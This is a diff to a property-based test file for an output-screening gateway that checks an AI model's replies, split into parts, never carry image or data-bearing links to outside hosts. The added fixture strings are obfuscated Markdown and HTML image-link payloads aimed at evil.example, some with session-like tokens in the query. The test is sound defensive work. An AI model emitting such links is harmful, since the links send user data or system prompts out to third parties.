@@ -80,6 +80,22 @@ _FRAGMENTS = [
     "https://www.example.org/guide/",
     '<img src="https://evil.example/p.gif" width=1>',
     "<IMG alt=x src=https://ok.example/a.png>",
+    "![図](HTTPS://EVIL.EXAMPLE/a.png)",
+    "![図](//evil.example/a.png)",
+    '<img src="https&#58;//evil.example/p.gif">',
+    "[x](https:/evil.example/c?s=abcdef123456 'title')",
+    "![x](https://evil.example/a.png (title))",
+    "![相対](images/a.png)",
+    "[注](参考)",
+    '<img src="a.png" srcset="https://evil.example/b.png 2x">',
+    '<svg><image href="https://evil.example/p.png"/></svg>',
+    '<video poster="//evil.example/p.png"></video>',
+    "![x][1]\n\n[1]: https://evil.example/p.png\n",
+    "[注]: 本文",
+    "![a [b] c](https://evil.example/p.png)",
+    "![x\ny](https://evil.example/p.png)",
+    "[x]([x](",
+    "Https://evil.example/c?session=abcdef123456 ",
     SYSTEM[:40],
     SYSTEM[12:50],
     SYSTEM,
@@ -94,7 +110,7 @@ _FRAGMENTS = [
     "htt",
     ")",
 ]
-_CHARS = "あい佐藤花子0123-[]()!<>h:/ 。、\n様さんhttps.exampleimg"
+_CHARS = "あい佐藤花子0123-[]()!<>hH:/ 。、\n様さんhttps.exampleimgHTTPS&#;'"
 _TEXT = st.lists(
     st.one_of(st.sampled_from(_FRAGMENTS), st.text(alphabet=_CHARS, max_size=6)), max_size=12
 ).map("".join)
@@ -359,8 +375,9 @@ def test_no_link_that_carries_data_out_works_in_the_parts_joined(
     """However a link is split over parts, the parts as a client joins them hold no image
     or data-carrying link to a host outside the allowed ones."""
     screen = _screen(new_personal="off", system_prompt_leak="off")
-    # (the notice that stands where a link was cut is the gateway's own text, not data)
-    joined = "".join(_parts(screen, text, joints, [3])).replace(EXFIL_NOTICE, " ")
+    # (the notice that stands where a link was cut is the gateway's own text, not data:
+    # a boundary, which no Markdown link closes right after either)
+    joined = "".join(_parts(screen, text, joints, [3])).replace(EXFIL_NOTICE, " ［］ ")
     assert [h for _, _, h in screen._links(joined) if h is not None] == [], joined
 
 
